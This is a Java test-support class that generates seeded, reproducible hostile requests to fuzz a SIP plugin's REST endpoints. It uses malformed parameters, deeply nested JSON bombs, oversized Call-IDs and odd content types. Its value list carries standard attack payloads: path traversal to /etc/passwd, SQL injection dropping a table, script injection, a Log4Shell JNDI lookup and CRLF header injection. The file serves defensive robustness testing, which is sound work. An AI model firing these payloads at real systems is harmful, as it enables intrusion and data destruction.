// SPDX-License-Identifier: Apache-2.0
package org.sipassistant.scenarios;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;

/** Requests that nobody sends who means well: random, but the same for the same seed. */
final class HostileRequests {
    private static final List<String> PARAMETERS = List.of(
            "call_id",
            "question",
            "number",
            "caller",
            "callee",
            "from",
            "to",
            "at",
            "code",
            "method",
            "peer",
            "index",
            "time_zone",
            "format",
            "size",
            "limit",
            "pretty",
            "<script>",
            "%00",
            "constructor");

    private static final List<String> BODIES_OF =
            List.of("why", "why/text", "calls", "recognise", "feedback", "failures");

    private static final List<String> WORDS = List.of(
            "",
            " ",
            "*",
            "-*",
            "_all",
            "*:*",
            "../../etc/passwd",
            "now-1000000y",
            "-1",
            "99999999999999999999",
            "1e400",
            "NaN",
            "null",
            "{}",
            "[]",
            "\"",
            "'; DROP TABLE calls; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://192.0.2.1/a}",
            "%n%s%x",
            "a@b",
            "486",
            "INVITE",
            "2026-13-45T99:99:99Z",
            "0.0.0.0/0",
            "SIP/2.0 486 Busy Here",
            "\u0000",
            "\r\nX: y",
            "\u202e\u2066abc",
            "\ud83d\ude00",
            "\u0130\u0131\u00df",
            "why did the call from 1 to 2 fail at 25:61 yesterday tomorrow");

    private static final String JSON = "application/json";
    private static final int DEEPEST = 20_000;
    private static final int LONGEST_IN_URL = 300;
    private static final int LONGEST_CALL_ID = 64 << 10;

    /** @param kind by which it is counted */
    record Hostile(String kind, String method, String path, String body, String type) {
        static Hostile get(String kind, String path) {
            return new Hostile(kind, "GET", path, "", JSON);
        }

        static Hostile post(String kind, String path, String body) {
            return new Hostile(kind, "POST", path, body, JSON);
        }

        Http.Reply send(Http http) throws IOException {
            return http.send(method, path, body, type);
        }
    }

    /** One of so many requests holds all characters of a page of Unicode, one page after the other. */
    private static final int UNICODE_EVERY = 4;

    private static final int PAGE = 256;
    private static final int PAGES = (Character.MAX_CODE_POINT + 1) / PAGE;
    private static final List<String> TEXT_OF = List.of("call_id", "question", "number");

    private final int seed;
    private final SplittableRandom random;

    HostileRequests(int seed) {
        this.seed = seed;
        this.random = new SplittableRandom(seed);
    }

    Hostile next() {
        return seed % UNICODE_EVERY == 0 ? unicode(seed / UNICODE_EVERY) : other();
    }

    private static Hostile unicode(int n) {
        StringBuilder text = new StringBuilder("a");
        int first = n % PAGES * PAGE;
        for (int c = first; c < first + PAGE; c++) {
            text.appendCodePoint(legal(c));
        }
        ObjectNode body = JsonNodeFactory.instance.objectNode().put(TEXT_OF.get(n % TEXT_OF.size()), text.toString());
        return Hostile.post("all characters of a page of Unicode", "/_plugins/_sip/why", body.toString());
    }

    private static int legal(int c) {
        return Character.getType(c) == Character.SURROGATE ? 0xFFFD : c;
    }

    private Hostile other() {
        return switch (random.nextInt(16)) {
            case 0, 1, 2 -> Hostile.get("parameters of why", "/_plugins/_sip/why?" + query());
            case 3 ->
                Hostile.get(
                        "a path of calls", "/_plugins/_sip/calls/" + encoded(value(LONGEST_IN_URL)) + "?" + query());
            case 4 -> Hostile.get("a path of explain", "/_plugins/_sip/explain/" + encoded(value(40)));
            case 5 -> Hostile.get("a path of explain", "/_plugins/_sip/explain/q850/" + encoded(value(40)));
            case 6 -> Hostile.get("parameters of failures", "/_plugins/_sip/failures?" + query());
            case 7 -> Hostile.get("parameters of stats", "/_plugins/_sip/stats?" + query());
            case 8 -> new Hostile("parameters of setup", "PUT", "/_plugins/_sip/setup?" + query(), "", JSON);
            case 9 -> post("a nesting bomb", bomb());
            case 10 -> post("a Call-ID of 64 kB", "{\"call_id\": \"" + "a".repeat(LONGEST_CALL_ID) + "\"}");
            case 11 -> post("no JSON", value(2_000));
            case 12 -> otherType();
            default -> post("a body", object().toString());
        };
    }

    private Hostile post(String kind, String body) {
        return Hostile.post(kind, endpoint(), body.isEmpty() ? "{" : body);
    }

    /** A body in another of the formats that engines read. */
    private Hostile otherType() {
        String type = "application/" + List.of("yaml", "cbor", "smile").get(random.nextInt(3));
        String body = random.nextBoolean() ? value(200) : ":)\n" + value(200);
        return new Hostile("another format", "POST", endpoint(), body.isEmpty() ? "-" : body, type);
    }

    private String endpoint() {
        return "/_plugins/_sip/" + BODIES_OF.get(random.nextInt(BODIES_OF.size()));
    }

    private String query() {
        StringBuilder query = new StringBuilder();
        for (int n = random.nextInt(4); n >= 0; n--) {
            query.append(encoded(parameter()))
                    .append('=')
                    .append(encoded(value(LONGEST_IN_URL)))
                    .append('&');
        }
        return query.substring(0, query.length() - 1);
    }

    private ObjectNode object() {
        ObjectNode object = JsonNodeFactory.instance.objectNode();
        for (int n = random.nextInt(5); n >= 0; n--) {
            String name = random.nextInt(4) == 0
                    ? List.of("text", "lines", "category").get(random.nextInt(3))
                    : parameter();
            switch (random.nextInt(6)) {
                case 0 -> object.put(name, random.nextLong());
                case 1 -> object.putNull(name);
                case 2 -> object.putArray(name).add(value(50)).add(random.nextInt());
                case 3 -> object.putObject(name).put(value(20), value(20));
                default -> object.put(name, value(5_000));
            }
        }
        return object;
    }

    /** Objects or arrays in each other, closed or not. */
    private String bomb() {
        int depth = random.nextInt(DEEPEST);
        boolean objects = random.nextBoolean();
        String open = (objects ? "{\"a\":" : "[").repeat(depth);
        return random.nextBoolean() ? open : "{\"call_id\":" + open + "1" + (objects ? "}" : "]").repeat(depth) + "}";
    }

    private String parameter() {
        return PARAMETERS.get(random.nextInt(PARAMETERS.size()));
    }

    /** A word of the list, or characters of one block of Unicode. */
    private String value(int longest) {
        if (random.nextInt(3) > 0) {
            return WORDS.get(random.nextInt(WORDS.size()));
        }
        int first = random.nextInt(PAGES) * PAGE;
        StringBuilder value = new StringBuilder();
        for (int n = random.nextInt(longest); n >= 0; n--) {
            value.appendCodePoint(legal(first + random.nextInt(PAGE)));
        }
        return value.toString();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
